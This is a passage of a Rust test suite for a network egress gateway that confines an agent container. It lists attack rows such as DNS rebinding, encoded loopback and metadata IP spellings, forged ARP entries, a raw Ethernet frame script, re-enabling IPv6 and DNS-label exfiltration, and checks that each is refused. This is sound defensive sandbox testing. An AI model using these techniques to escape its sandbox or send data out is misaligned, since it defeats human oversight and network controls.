            3,
            "IP-literal SNI (198.51.100.10)",
            vec![
                (Col::Tls1, ip_sni("http/1.1")),
                (Col::Tls2, ip_sni("h2")),
                (Col::Proxy, in_tunnel("198.51.100.10", false)),
            ],
        ),
        a(
            3,
            "ECH extension in the ClientHello",
            vec![
                (Col::Tls1, ech("http/1.1")),
                (Col::Tls2, ech("h2")),
                (Col::Proxy, in_tunnel("allowed.test", true)),
            ],
        ),
        a(
            3,
            "HTTPS / SVCB queries (ECH keys, hidden SNI)",
            vec![(Col::Dns, svcb("HTTPS"))],
        ),
        a(3, "SVCB query", vec![(Col::Dns, svcb("SVCB"))]),
    ]
}

fn row4() -> Vec<Attack> {
    vec![
        a(
            4,
            "direct-IP destination (Host / CONNECT target is an IP)",
            vec![
                (
                    Col::Http,
                    run(|c| {
                        let m = c.marker();
                        quiet(c, || {
                            status(
                                &c.curl(&["-i", &format!("http://{HTTP_ORIGIN_V4}/echo/{m}")]),
                                &[403],
                            )
                        })
                    }),
                ),
                (
                    Col::Proxy,
                    run(|c| {
                        quiet(c, || {
                            let out = c.py(&attempt("198.18.0.1", 3128, &format!("CONNECT {ORIGIN_V4}:443 HTTP/1.1\\r\\nHost: {ORIGIN_V4}:443\\r\\n\\r\\n"), "", ""));
                            refused_raw(&out, true)
                        })
                    }),
                ),
                (
                    Col::Tcp,
                    run(|c| {
                        // Port 7 has a `tcp` rule, but nobody resolved this address through the gateway.
                        quiet(c, || fast_refusal(&c.py(&tcp_probe(OTHER_ORIGIN_V4, 7))))
                    }),
                ),
            ],
        ),
        a(
            4,
            "other TCP ports (8443, 22, 8080)",
            vec![
                (
                    Col::Direct,
                    run(|c| {
                        quiet(c, || {
                            for (ip, port) in
                                [(ORIGIN_V4, 8443), (ECHO_V4, 22), (HTTP_ORIGIN_V4, 8080)]
                            {
                                fast_refusal(&c.py(&tcp_probe(ip, port)))?;
                            }
                            Ok("reset fast".into())
                        })
                    }),
                ),
                (
                    Col::Tcp,
                    run(|c| {
                        getent(c, "echo.test");
                        quiet(c, || fast_refusal(&c.py(&tcp_probe(ECHO_V4, 2222))))
                    }),
                ),
            ],
        ),
        a(
            4,
            "CONNECT to arbitrary ports",
            vec![(
                Col::Proxy,
                run(|c| {
                    quiet(c, || {
                        for target in ["echo.test:22", "allowed.test:8443", "allowed.test:25"] {
                            let out = c.py(&attempt(
                                "198.18.0.1",
                                3128,
                                &format!(
                                    "CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n"
                                ),
                                "",
                                "",
                            ));
                            refused_raw(&out, true)?;
                        }
                        Ok("403 for :22, :8443, :25".into())
                    })
                }),
            )],
        ),
    ]
}

fn row5() -> Vec<Attack> {
    // Each cell has its own name (answers are cached and pinned per name). The lab DNS
    // alternates public and loopback answers per query; the test itself asks the lab DNS
    // directly (from the gateway namespace) to choose which answer comes next.
    let advance = |c: &Ctx, name: &str| {
        for rtype in [
            hickory_proto::rr::RecordType::A,
            hickory_proto::rr::RecordType::AAAA,
        ] {
            c.b.lab
                .dns_query(Host::Gateway, bottleneck_lab::addr::dns_v4(), name, rtype)
                .unwrap();
        }
    };
    let fetch = |c: &Ctx, col: Col, name: &str, path: &str| -> Curl {
        match col {
            Col::Http => c.http(name, path, &[]),
            Col::Tls1 => c.tls("--http1.1", name, path, &[]),
            Col::Tls2 => c.tls("--http2", name, path, &[]),
            _ => c.proxy(&format!("https://{name}{path}"), &[]),
        }
    };
    let loopback_first = move |col: Col| {
        run(move |c: &Ctx| {
            let name = format!("lo-{}.rebind.test", c.marker());
            c.b.lab
                .dns()
                .add_alternating(
                    &name,
                    (ORIGIN_V4, ORIGIN_V6),
                    ("127.0.0.1".parse().unwrap(), "::1".parse().unwrap()),
                )
                .unwrap();
            advance(c, &name);
            quiet(c, || status(&fetch(c, col, &name, "/echo/rebind"), &[502]))
        })
    };
    let public_first = move |col: Col| {
        run(move |c: &Ctx| {
            let name = format!("ag-{}.rebind.test", c.marker());
            c.b.lab
                .dns()
                .add_alternating(
                    &name,
                    (ORIGIN_V4, ORIGIN_V6),
                    ("127.0.0.1".parse().unwrap(), "::1".parse().unwrap()),
                )
                .unwrap();
            // The agent resolves (public), then the name rebinds to loopback upstream.
            let (st, answers) = dig(c, &["@198.18.0.1", &name, "A"]);
            if st != "NOERROR" || !answers.iter().any(|a| a.contains(&ORIGIN_V4.to_string())) {
                return Err(format!("agent lookup: {st} {answers:?}"));
            }
            let before = c.canary.count();
            let m = c.marker();
            let r = fetch(c, col, &name, &format!("/echo/{m}"));
            let ok_ips = [IpAddr::V4(ORIGIN_V4), IpAddr::V6(ORIGIN_V6)];
            let rec = c.reached(&m);
            let landed = rec.len() == 1 && rec[0].local().is_some_and(|l| ok_ips.contains(&l.ip()));
            if r.status == 200 && landed && c.canary.count() == before {
                Ok(format!(
                    "200 on the vetted origin address {}, no loopback dial",
                    rec[0].local_addr
                ))
            } else {
                Err(format!("{} records {rec:?}", r.summary()))
            }
        })
    };
    let cols = [Col::Http, Col::Tls1, Col::Tls2, Col::Proxy];
    vec![
        a(
            5,
            "rebinding: the gateway's own lookup gets the loopback answer",
            cols.iter()
                .map(|col| (*col, loopback_first(*col)))
                .collect(),
        ),
        a(
            5,
            "rebinding: the agent resolved the public answer, then the name turns to loopback",
            {
                let mut cells: Vec<(Col, Cell)> =
                    cols.iter().map(|col| (*col, public_first(*col))).collect();
                cells.push((
                    Col::Tcp,
                    run(move |c| {
                        let before = c.canary.count();
                        let ips = getent(c, "rebind7.test");
                        let public: Vec<_> = ips.iter().filter(|ip| !ip.is_loopback()).collect();
                        let Some(ip) = public.first() else {
                            return Err(format!("no public answer: {ips:?}"));
                        };
                        advance(c, "rebind7.test");
                        let out = c.py(&tcp_probe(ip, 7));
                        if out.starts_with("ok") && c.canary.count() == before {
                            Ok(format!("relayed to the pinned {ip}, no loopback dial"))
                        } else {
                            Err(out)
                        }
                    }),
                ));
                cells
            },
        ),
    ]
}

const SPELLINGS: [&str; 9] = [
    "127.1",
    "0x7f000001",
    "2130706433",
    "0177.0.0.1",
    "[::ffff:127.0.0.1]",
    "[64:ff9b::7f00:1]",
    "169.254.169.254",
    "[fd00:ec2::254]",
    "[fe80::1%25eth0]",
];

fn row6() -> Vec<Attack> {
    let mut out = Vec::new();
    for spelling in SPELLINGS {
        let sni = spelling
            .trim_start_matches('[')
            .trim_end_matches(']')
            .replace("%25", "%");
        let sni2 = sni.clone();
        out.push(a(6, &format!("IP spelling `{spelling}` as Host / SNI / CONNECT target"), vec![
            (Col::Http, run(move |c| {
                let m = c.marker();
                quiet(c, || refused_raw(&c.py(&attempt(HTTP_ORIGIN_V4, 80, &format!("GET /echo/{m} HTTP/1.1\\r\\nHost: {spelling}\\r\\nConnection: close\\r\\n\\r\\n"), "", "")), true))
            })),
            (Col::Tls1, run(move |c| {
                let m = c.marker();
                quiet(c, || {
                    let out = c.py(&attempt(ORIGIN_V4, 443, &format!("GET /echo/{m} HTTP/1.1\\r\\nHost: {spelling}\\r\\nConnection: close\\r\\n\\r\\n"), &sni, "http/1.1"));
                    if out.starts_with("TLS-ERR") || out.starts_with("CONNECT-ERR") || out.contains("STATUSES -") { Ok(format!("TLS refused: {}", out.lines().next().unwrap_or(""))) } else { refused_raw(&out, true) }
                })
            })),
            (Col::Tls2, run(move |c| {
                quiet(c, || {
                    let out = c.py(&format!("{CLIENT_HELLO}\ns=conn('{ORIGIN_V4}',443)\nprint(hello_reply(s, client_hello('{sni2}',['h2'])))\n"));
                    if out.trim() != "serverhello" { Ok(format!("handshake: {}", out.trim())) } else { Err(out) }
                })
            })),
            (Col::Proxy, run(move |c| {
                quiet(c, || {
                    let out = c.py(&attempt("198.18.0.1", 3128, &format!("CONNECT {spelling}:443 HTTP/1.1\\r\\nHost: {spelling}:443\\r\\n\\r\\n"), "", ""));
                    refused_raw(&out, true)?;
                    let out = c.py(&attempt("198.18.0.1", 3128, &format!("GET http://{spelling}/ HTTP/1.1\\r\\nHost: {spelling}\\r\\nConnection: close\\r\\n\\r\\n"), "", ""));
                    refused_raw(&out, true).map(|s| format!("CONNECT and absolute-form: {s}"))
                })
            })),
        ]));
    }
    for (name, what) in [
        ("private.test", "10.0.0.1 / fd00::1"),
        ("loop.test", "127.0.0.1 / ::1"),
        ("meta.test", "169.254.169.254 / fd00:ec2::254"),
        ("mapped.test", "::ffff:127.0.0.1"),
        ("nat64.test", "64:ff9b::7f00:1"),
    ] {
        let via_tls = move |flag: &'static str| {
            run(move |c: &Ctx| {
                let m = c.marker();
                quiet(c, || {
                    status(&c.tls(flag, name, &format!("/echo/{m}"), &[]), &[502])
                })
            })
        };
        out.push(a(
            6,
            &format!("allowed name `{name}` whose DNS answer is {what}"),
            vec![
                (
                    Col::Http,
                    run(move |c| {
                        let m = c.marker();
                        quiet(c, || {
                            status(&c.http(name, &format!("/echo/{m}"), &[]), &[502])
                        })
                    }),
                ),
                (Col::Tls1, via_tls("--http1.1")),
                (Col::Tls2, via_tls("--http2")),
                (
                    Col::Proxy,
                    run(move |c| {
                        let m = c.marker();
                        quiet(c, || {
                            status(&c.proxy(&format!("https://{name}/echo/{m}"), &[]), &[502])?;
                            status(&c.proxy(&format!("http://{name}/echo/{m}"), &[]), &[502])
                                .map(|s| format!("CONNECT and http://: {s}"))
                        })
                    }),
                ),
            ],
        ));
    }
    out.push(a(
        6,
        "tcp rule for a name whose DNS answer is private (privtcp.test -> 10.9.9.9)",
        vec![
            (
                Col::Tcp,
                run(|c| {
                    let ips = getent(c, "privtcp.test");
                    if !ips.contains(&"10.9.9.9".parse().unwrap()) {
                        return Err(format!("the agent did not get the private answer: {ips:?}"));
                    }
                    quiet(c, || fast_refusal(&c.py(&tcp_probe("10.9.9.9", 7))))
                }),
            ),
            (
                Col::Proxy,
                run(|c| quiet(c, || connect_tcp_refused(c, "privtcp.test:7"))),
            ),
        ],
    ));
    out
}

fn row7() -> Vec<Attack> {
    let v6_tls = |flag: &'static str| {
        run(move |c: &Ctx| {
            let m = c.marker();
            quiet(c, || {
                status(
                    &c.curl(&[
                        flag,
                        "-i",
                        "-6",
                        "--resolve",
                        &format!("denied.test:443:[{ORIGIN_V6}]"),
                        &format!("https://denied.test/echo/{m}"),
                    ]),
                    &[403],
                )
            })
        })
    };
    vec![
        a(
            7,
            "IPv6 destinations: denied host, unpinned relay address, other ports",
            vec![
                (
                    Col::Http,
                    run(|c| {
                        let m = c.marker();
                        quiet(c, || {
                            status(
                                &c.curl(&[
                                    "-i",
                                    "-6",
                                    "--resolve",
                                    &format!("denied.test:80:[{HTTP_ORIGIN_V6}]"),
                                    &format!("http://denied.test/echo/{m}"),
                                ]),
                                &[403],
                            )
                        })
                    }),
                ),
                (Col::Tls1, v6_tls("--http1.1")),
                (Col::Tls2, v6_tls("--http2")),
                (
                    Col::Proxy,
                    run(|c| {
                        quiet(c, || {
                            refused_raw(&c.py(&attempt("198.18.0.1", 3128, &format!("CONNECT [{ORIGIN_V6}]:443 HTTP/1.1\\r\\nHost: [{ORIGIN_V6}]:443\\r\\n\\r\\n"), "", "")), true)
                        })
                    }),
                ),
                (
                    Col::Tcp,
                    run(|c| quiet(c, || fast_refusal(&c.py(&tcp_probe("2001:db8:203::10", 7))))),
                ),
                (
                    Col::Dns,
                    run(|c| {
                        let (st, _) =
                            dig(c, &[&format!("@{DNS_V6}"), "v6exfil.denied.test", "AAAA"]);
                        let asked = c.b.lab.dns().queries_for("v6exfil.denied.test");
                        if st == "NXDOMAIN" && asked == 0 {
                            Ok("NXDOMAIN from the gateway, not forwarded".into())
                        } else {
                            Err(format!("{st}, wan asked {asked}"))
                        }
                    }),
                ),
                (
                    Col::Direct,
                    run(|c| {
                        quiet(c, || {
                            fast_refusal(&c.py(&tcp_probe(
                                format!("[{ORIGIN_V6}]").trim_matches(|ch| ch == '[' || ch == ']'),
                                8443,
                            )))?;
                            fast_refusal(&c.py(&udp_probe(ECHO_V6, 7)))
                                .map(|s| format!("tcp reset, udp {s}"))
                        })
                    }),
                ),
            ],
        ),
        a(
            7,
            "the agent's own IPv6 after the shim (disabled by default): a wan v6 address, an on-link v6 neighbour, its link-local address, all-nodes multicast",
            vec![(Col::Direct, shim(shim_v6_disabled))],
        ),
        a(
            7,
            "the agent's own IPv6 routed by the shim (`BOTTLENECK_IPV6=route`): the on-link neighbour and a link-local next hop go via the gateway",
            vec![(Col::Direct, shim(shim_v6_routed))],
        ),
    ]
}

/// Row 7, IPv6 disabled by the shim: every v6 destination is unreachable, and the agent
/// can neither route v6 through a link-local next hop nor turn IPv6 back on.
fn shim_v6_disabled(s: &ShimCtx) -> Result<String, String> {
    let ll = format!("{}%eth0", s.nbr.link_local);
    let specs = [
        spec("wan6", "tcp", ORIGIN_V6, 443),
        spec("echo6", "udp", ECHO_V6, 7),
        spec("nbr6", "tcp", Neighbour::V6, 80),
        spec("ll6", "tcp", &ll, 80),
        spec("allnodes", "udp", "ff02::1%eth0", 9),
    ];
    let control = control_reached(s, &specs, "nbr6")?;
    shim_quiet(s, || {
        let script = format!(
            "{}; ip -6 route add default via {} dev eth0; echo route_rc=$?; \
             (echo 0 > /proc/sys/net/ipv6/conf/eth0/disable_ipv6) 2>/dev/null; echo sysctl_rc=$?",
            s.probe(&specs),
            s.nbr.link_local
        );
        let out = s.shim(&[], &script)?;
        let names = ["wan6", "echo6", "nbr6", "ll6", "allnodes"];
        let results = probed(&out, &names)?;
        if let Some((name, r)) = results
            .iter()
            .find(|(n, r)| names.contains(&n.as_str()) && !r.starts_with("failed"))
        {
            return Err(format!("{name} got through: {r}"));
        }
        let text = out.stdout_str();
        refused_rc(&text, "route_rc")?;
        refused_rc(&text, "sysctl_rc")?;
        let why = results["nbr6"].trim_start_matches("failed ").to_owned();
        Ok(format!(
            "{control}; with the shim all 5 v6 probes failed ({why}), a v6 route via the \
             neighbour's link-local address and re-enabling IPv6 were refused"
        ))
    })
}

/// Row 7, IPv6 routed by the shim: the connected /64 and fe80::/64 are gone, so the
/// on-link neighbour and its link-local address are reached only through the gateway
/// (which answers for them), and a wan echo port is refused by the gateway.
fn shim_v6_routed(s: &ShimCtx) -> Result<String, String> {
    let ll = format!("{}%eth0", s.nbr.link_local);
    let specs = [
        spec("nbr6", "tcp", Neighbour::V6, 80),
        spec("nbr6u", "udp", Neighbour::V6, 9),
        spec("ll6", "tcp", &ll, 80),
        spec("ll6u", "udp", &ll, 9),
        spec("echo6", "tcp", ECHO_V6, 7),
        spec("port6", "tcp", ORIGIN_V6, 8443),
    ];
    let control = control_reached(s, &specs, "ll6")?;
    shim_quiet(s, || {
        let script = format!(
            "{}; ip -6 route replace default via {} dev eth0; echo route_rc=$?; \
             echo ==get==; ip -6 route get {}",
            s.probe(&specs),
            s.nbr.link_local,
            Neighbour::V6
        );
        let out = s.shim(&V6_ROUTE, &script)?;
        let results = probed(&out, &["nbr6", "nbr6u", "ll6", "ll6u", "echo6", "port6"])?;
        if let Some((name, r)) = results.iter().find(|(_, r)| neighbour_answered(r)) {
            return Err(format!("{name} reached the neighbour: {r}"));
        }
        for name in ["echo6", "port6"] {
            if !results[name].starts_with("failed") {
                return Err(format!("{name}: {}", results[name]));
            }
        }
        refused_rc(&out.stdout_str(), "route_rc")?;
        let get = section(&out.stdout_str(), "get");
        if !get.contains("via 2001:db8:a::1 dev eth0") {
            return Err(format!(
                "the neighbour is not routed via the gateway: {get}"
            ));
        }
        Ok(format!(
            "{control}; with the shim: neighbour v6 {}, link-local {}, wan echo {}; route \
             change refused",
            short(&results["nbr6"]),
            short(&results["ll6"]),
            short(&results["echo6"])
        ))
    })
}

/// A probe result cut for the evidence column.
fn short(result: &str) -> String {
    result.chars().take(48).collect()
}

/// The gateway's MAC on the agent network (for a forged neighbour entry).
fn gateway_mac(c: &Ctx) -> String {
    let out =
        c.b.lab
            .exec(Host::Gateway, &["cat", "/sys/class/net/eth1/address"])
            .unwrap();
    out.stdout_str().trim().to_owned()
}

fn row8() -> Vec<Attack> {
    vec![
        a(
            8,
            "the gateway's listener ports addressed directly (15080, 15443, 15022, 15053)",
            vec![(
                Col::Direct,
                run(|c| {
                    quiet(c, || {
                        let mut notes = Vec::new();
                        let http = c.py(&attempt("198.18.0.1", 15080, "GET /echo HTTP/1.1\\r\\nHost: denied.test\\r\\nConnection: close\\r\\n\\r\\n", "", ""));
                        notes.push(format!("15080: {}", refused_raw(&http, false)?));
                        let tls = c.py(&attempt("198.18.0.1", 15443, "GET /echo HTTP/1.1\\r\\nHost: denied.test\\r\\nConnection: close\\r\\n\\r\\n", "denied.test", "http/1.1"));
                        notes.push(format!("15443: {}", refused_raw(&tls, false)?));
                        for port in [15022u16, 15053] {
                            let out = c.py(&tcp_probe("198.18.0.1", port));
                            if out.starts_with("ok") {
                                return Err(out);
                            }
                            notes.push(format!("{port}: {}", out.trim()));
                        }
                        Ok(notes.join("; "))
                    })
                }),
            )],
        ),
        a(
            8,
            "on-link route + forged neighbour for a wan address (privileged agent)",
            vec![(
                Col::Direct,
                run(|c| {
                    let mac = gateway_mac(c);
                    let ip = |args: &[&str]| c.b.lab.exec(Host::Agent, args).unwrap();
                    ip(&["ip", "route", "add", "198.51.100.7/32", "dev", "eth0"]);
                    ip(&[
                        "ip",
                        "neigh",
                        "replace",
                        "198.51.100.7",
                        "lladdr",
                        &mac,
                        "dev",
                        "eth0",
                        "nud",
                        "permanent",
                    ]);
                    let r = quiet(c, || {
                        fast_refusal(&c.py(&udp_probe(ECHO_V4, 7)))?;
                        fast_refusal(&c.py(&tcp_probe(ECHO_V4, 9)))?;
                        Ok("udp rejected, tcp reset".into())
                    });
                    ip(&["ip", "neigh", "del", "198.51.100.7", "dev", "eth0"]);
                    ip(&["ip", "route", "del", "198.51.100.7/32", "dev", "eth0"]);
                    r
                }),
            )],
        ),
        a(
            8,
            "the shim's /32 host route: a neighbour on the agent subnet (198.18.0.3) is reached only through the gateway",
            vec![(Col::Direct, shim(shim_host_route))],
        ),
        a(
            8,
            "the agent re-adds an on-link route, forges an ARP entry, or sends a hand-built Ethernet frame to the neighbour (after the shim)",
            vec![(Col::Direct, shim(shim_onlink_again))],
        ),
        a(
            8,
            "UDP to the subnet broadcast (198.18.0.255), the limited broadcast (255.255.255.255), all-hosts multicast out of eth0 (IP_MULTICAST_IF) and, with IPv6 routed, all-nodes multicast (ff02::1) after the shim",
            vec![(Col::Direct, shim(shim_broadcast))],
        ),
    ]
}

/// Row 8: after the shim an on-link address goes via the gateway (which answers for it),
/// never to the neighbour.
fn shim_host_route(s: &ShimCtx) -> Result<String, String> {
    let specs = [
        spec("nbr4", "tcp", Neighbour::V4, 80),
        spec("nbr4u", "udp", Neighbour::V4, 9),
    ];
    let control = control_reached(s, &specs, "nbr4")?;
    shim_quiet(s, || {
        let script = format!(
            "{}; echo ==get==; ip route get {}",
            s.probe(&specs),
            Neighbour::V4
        );
        let out = s.shim(&[], &script)?;
        let results = probed(&out, &["nbr4", "nbr4u"])?;
        if neighbour_answered(&results["nbr4"]) {
            return Err(format!("nbr4 reached the neighbour: {}", results["nbr4"]));
        }
        let get = section(&out.stdout_str(), "get");
        if !get.contains("via 198.18.0.1 dev eth0") {
            return Err(format!(
                "the neighbour is not routed via the gateway: {get}"
            ));
        }
        narrowed(&agent_routes(s))?;
        Ok(format!(
            "{control}; with the shim: `{}`, tcp {}",
            get.trim(),
            short(&results["nbr4"])
        ))
    })
}

/// A Python snippet sending one Ethernet frame (IPv4/UDP to the neighbour's port 9,
/// payload `probe-rawframe`) to `mac` on eth0 through an AF_PACKET socket; prints
/// `frame=sent` or `frame=failed <error>`.
fn raw_frame(mac: &str) -> String {
    format!(
        r#"import socket,struct
def csum(b):
    t=sum(struct.unpack('!%dH'%(len(b)//2),b)); t=(t>>16)+(t&0xffff); t+=t>>16; return ~t&0xffff
try:
    p=socket.socket(socket.AF_PACKET,socket.SOCK_RAW); p.bind(('eth0',0))
    data=b'probe-rawframe'; udp=struct.pack('!HHHH',40000,9,8+len(data),0)+data
    ip=struct.pack('!BBHHHBBH4s4s',0x45,0,20+len(udp),1,0,64,17,0,socket.inet_aton('198.18.0.2'),socket.inet_aton('198.18.0.3'))
    ip=ip[:10]+struct.pack('!H',csum(ip))+ip[12:]
    mac=bytes.fromhex('{}'); src=open('/sys/class/net/eth0/address').read().strip()
    p.send(mac+bytes.fromhex(src.replace(':',''))+b'\x08\x00'+ip+udp); print('frame=sent')
except Exception as e:
    print('frame=failed',type(e).__name__,e)
"#,
        mac.replace(':', "")
    )
}

/// Row 8: the agent cannot put an on-link path back: no route, no neighbour entry, no raw
/// frame (the container's root can, which the control shows for the frame).
fn shim_onlink_again(s: &ShimCtx) -> Result<String, String> {
    let frame = fixture_script(s, "frame.py", &raw_frame(&s.nbr.mac));
    let before = s.nbr.datagrams().len();
    let control = s.root(&format!("python3 {frame}"));
    let arrived = s.nbr.datagrams()[before..].contains(&"probe-rawframe".to_owned());
    if !control.stdout_str().contains("frame=sent") || !arrived {
        return Err(format!(
            "control: the container's root frame did not reach the neighbour: {control:?}"
        ));
    }
    let specs = [spec("nbr4", "tcp", Neighbour::V4, 80)];
    shim_quiet(s, || {
        let script = format!(
            "ip route add 198.18.0.0/24 dev eth0; echo subnet_rc=$?; \
             ip route add {nbr}/32 dev eth0; echo host_rc=$?; \
             ip route replace default dev eth0; echo onlink_default_rc=$?; \
             ip neigh replace {nbr} lladdr {mac} dev eth0 nud permanent; echo neigh_rc=$?; \
             python3 {frame}; {probe}",
            nbr = Neighbour::V4,
            mac = s.nbr.mac,
            probe = s.probe(&specs)
        );
        let out = s.shim(&[], &script)?;
        let text = out.stdout_str();
        for rc in ["subnet_rc", "host_rc", "onlink_default_rc", "neigh_rc"] {
            refused_rc(&text, rc)?;
        }
        let results = probed(&out, &["nbr4"])?;
        if neighbour_answered(&results["nbr4"]) {
            return Err(format!("nbr4 reached the neighbour: {}", results["nbr4"]));
        }
        let frame_result = text
            .lines()
            .find(|l| l.starts_with("frame="))
            .unwrap_or("frame=<missing>")
            .to_owned();
        if !frame_result.starts_with("frame=failed") {
            return Err(frame_result);
        }
        narrowed(&agent_routes(s))?;
        Ok(format!(
            "the container's root delivers a raw frame to the neighbour; after the shim the \
             routes and the ARP entry are refused (EPERM), {frame_result}, tcp {}",
            short(&results["nbr4"])
        ))
    })
}

/// Row 8: the /32 host route narrows unicast only; broadcast and multicast datagrams go
/// on the agent's L2 network, where every host (the neighbour here, the container host on
/// Apple Container) would receive them. The shim's egress filter must refuse each one.
fn shim_broadcast(s: &ShimCtx) -> Result<String, String> {
    let v4 = [
        format!("{},broadcast", spec("bcast", "udp", "198.18.0.255", 9)),
        format!("{},broadcast", spec("lbcast", "udp", "255.255.255.255", 9)),
        format!("{},mcastif", spec("mcast", "udp", "224.0.0.1", 9)),
    ];
    let mut v6 = v4.to_vec();
    v6.push(spec("allnodes", "udp", "ff02::1%eth0", 9));
    let names = ["bcast", "lbcast", "mcast", "allnodes"];
    // Control: without the shim every one of them reaches the neighbour.
    let seen = s.nbr.datagrams().len();
    s.unshimmed(&s.probe(&v6));
    let arrived = s.nbr.datagrams();
    let arrived = arrived.get(seen..).unwrap_or_default();
    if let Some(missing) = names
        .iter()
        .find(|n| !arrived.iter().any(|d| d.contains(&format!("probe-{n}"))))
    {
        return Err(format!(
            "control: without the shim {missing} did not reach the neighbour: {arrived:?}"
        ));
    }
    shim_quiet(s, || {
        let disabled = s.shim(&[], &s.probe(&v4))?;
        restore_agent_network(s.lab())?;
        let routed = s.shim(&V6_ROUTE, &s.probe(&v6))?;
        let mut refused = Vec::new();
        for (out, names) in [(&disabled, &names[..3]), (&routed, &names[..])] {
            let results = probed(out, names)?;
            for name in names {
                let result = &results[*name];
                if !result.starts_with("failed") {
                    return Err(format!("{name} was sent: {result}"));
                }
                refused.push(format!("{name} {}", short(result)));
            }
        }
        Ok(format!(
            "without the shim all 4 reached the neighbour; with it: {}",
            refused.join(", ")
        ))
    })
}

fn row9() -> Vec<Attack> {
    let exfil = |c: &Ctx| format!("{}.{}.denied.test", "6a4f".repeat(12), c.marker());
    let tls = move |flag: &'static str| {
        run(move |c: &Ctx| {
            let name = exfil(c);
            let r = quiet(c, || status(&c.tls(flag, &name, "/echo", &[]), &[403]));
            let asked = c.b.lab.dns().queries_for(&name);
            if asked > 0 {
                return Err(format!("the wan DNS was asked {asked}x for {name}"));
            }
            r.map(|s| format!("{s}, wan DNS not asked"))
        })
    };
    vec![
        a(
            9,
            "data in a denied name: TXT / A / NULL / ANY, UDP and TCP, any resolver address",
            vec![
                (
                    Col::Dns,
                    run(move |c| {
                        let name = exfil(c);
                        for (server, rtype, tcp) in [
                            ("198.18.0.1", "TXT", false),
                            ("198.18.0.1", "A", true),
                            (&*DNS_V4.to_string(), "NULL", false),
                            ("203.0.113.10", "ANY", true),
                        ] {
                            let mut args =
                                vec![format!("@{server}"), name.clone(), rtype.to_owned()];
                            if tcp {
                                args.push("+tcp".into());
                            }
                            let args: Vec<&str> = args.iter().map(String::as_str).collect();
                            let (st, answers) = dig(c, &args);
                            if st != "NXDOMAIN" || !answers.is_empty() {
                                return Err(format!("{rtype} via {server}: {st} {answers:?}"));
                            }
                        }
                        let asked: u64 =
                            c.b.lab
                                .dns()
                                .log()
                                .iter()
                                .filter(|q| q.name.contains("6a4f"))
                                .count() as u64;
                        if asked == 0 {
                            Ok("NXDOMAIN x4, wan DNS saw none".into())
                        } else {
                            Err(format!("the wan DNS saw {asked} exfil queries"))
                        }
                    }),
                ),
                (
                    Col::Http,
                    run(move |c| {
                        let name = exfil(c);
                        let r = quiet(c, || status(&c.http(&name, "/echo", &[]), &[403]));
                        if c.b.lab.dns().queries_for(&name) > 0 {
                            return Err("wan DNS asked".into());
                        }
                        r
                    }),
                ),
                (Col::Tls1, tls("--http1.1")),
                (Col::Tls2, tls("--http2")),
                (
                    Col::Proxy,
                    run(move |c| {
                        let name = exfil(c);
                        let r = quiet(c, || {
                            status(&c.proxy(&format!("https://{name}/"), &[]), &[0, 403])?;
                            status(&c.proxy(&format!("http://{name}/"), &[]), &[403])
                        });
                        if c.b.lab.dns().queries_for(&name) > 0 {
                            return Err("wan DNS asked".into());
                        }
                        r
                    }),
                ),
            ],
        ),
        a(
            9,
            "a CNAME from an allowed name into a denied one",
            vec![(
                Col::Dns,
                run(|c| {
                    c.b.lab
                        .dns()
                        .add_cname("alias.cname.test", "denied.test")
                        .ok();
                    let (st, answers) = dig(c, &["@198.18.0.1", "alias.cname.test", "A"]);
                    if st != "NOERROR" && answers.iter().all(|a| !a.contains("denied")) {
                        Ok(format!("{st}, target not disclosed"))
                    } else {
                        Err(format!("{st} {answers:?}"))
                    }
                }),
            )],
        ),
    ]
}

fn row10() -> Vec<Attack> {
    let doh = |flag: &'static str| {
        run(move |c: &Ctx| {
            quiet(c, || {
                let r = c.curl(&[
                    flag,
                    "--resolve",
                    &format!("doh.test:443:{ORIGIN_V4}"),
                    "--doh-url",
                    "https://doh.test/dns-query",
                    "https://allowed.test/echo",
                ]);
                if r.status == 0 {
                    Ok(format!(
                        "DoH refused ({})",
                        r.stderr.lines().last().unwrap_or("").trim()
                    ))
                } else {
                    Err(r.summary())
                }
            })
        })
    };
    vec![
        a(
            10,
            "DNS over HTTPS to a resolver off the allowlist",
            vec![
                (Col::Tls1, doh("--http1.1")),
                (Col::Tls2, doh("--http2")),
                (
                    Col::Proxy,
                    run(|c| {
                        quiet(c, || {
                            status(&c.proxy("https://doh.test/dns-query?dns=AAABAAABAAAAAAAAB2FsbG93ZWQEdGVzdAAAAQAB", &[]), &[0, 403])
                        })
                    }),
                ),
                (
                    Col::Http,
                    run(|c| {
                        quiet(c, || {
                            status(
                                &c.http(
                                    "doh.test",
                                    "/dns-query?dns=AAABAAABAAAAAAAAB2FsbG93ZWQEdGVzdAAAAQAB",
                                    &[],
                                ),
                                &[403],
                            )
                        })
                    }),
                ),
            ],
        ),
        a(
            10,
            "DNS over TLS (port 853)",
            vec![
                (
                    Col::Direct,
                    run(|c| {
                        quiet(c, || {
                            fast_refusal(&c.py(&tcp_probe(DNS_V4, 853)))?;
                            fast_refusal(&c.py(&tcp_probe(DNS_V6, 853)))
                        })
                    }),
                ),
                (
                    Col::Proxy,
                    run(|c| {
                        quiet(c, || {
                            refused_raw(&c.py(&attempt("198.18.0.1", 3128, "CONNECT dns.test:853 HTTP/1.1\\r\\nHost: dns.test:853\\r\\n\\r\\n", "", "")), true)
                        })
                    }),
                ),
            ],
        ),
    ]
}

fn row11() -> Vec<Attack> {
    vec![
        a(
            11,
            "QUIC (UDP 443) to an allowed origin, v4 and v6",
            vec![(
                Col::Direct,
                run(|c| {
                    quiet(c, || {
                        fast_refusal(&c.py(&udp_probe(ORIGIN_V4, 443)))?;
                        fast_refusal(&c.py(&udp_probe(ORIGIN_V6, 443)))
                    })
                }),
            )],
        ),
        a(
            11,
            "other UDP (echo 7, 5353)",
            vec![(
                Col::Direct,
                run(|c| {
                    quiet(c, || {
                        fast_refusal(&c.py(&udp_probe(ECHO_V4, 7)))?;
                        fast_refusal(&c.py(&udp_probe(ECHO_V4, 5353)))
                    })
                }),
            )],
        ),
    ]
}

fn row12() -> Vec<Attack> {
    let mk = |path: &'static str, code: &'static str| {
        let tls = move |flag: &'static str| {
            run(move |c: &Ctx| {
                let m = c.marker();
                quiet(c, || {
                    status(
                        &c.tls(flag, "allowed.test", &format!("{path}{m}"), &[]),
                        &[403],
                    )
                    .and_then(|s| if s.contains(code) { Ok(s) } else { Err(s) })
                })
            })
        };
        vec![
            (
                Col::Http,
                run(move |c| {
                    let m = c.marker();
                    quiet(c, || {
                        status(&c.http("allowed.test", &format!("{path}{m}"), &[]), &[403])
